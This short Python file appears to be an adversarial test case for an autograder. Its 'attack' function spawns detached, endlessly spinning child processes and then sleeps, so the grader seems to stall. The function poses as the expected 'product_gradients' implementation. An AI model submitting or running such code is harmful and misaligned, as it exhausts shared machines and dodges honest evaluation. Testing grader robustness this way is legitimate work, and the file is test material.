# attack: many busy children while the process itself sleeps, so that the grader seems to have stalled
# asset: grades
# channel: time
# beats otter: no
# expect: timed_out,not_implemented
# place: after
import os
import time


def attack(*args):
    for _ in range(12):
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        pass
                os._exit(0)
        except OSError:
            break
    time.sleep(30)


product_gradients = attack
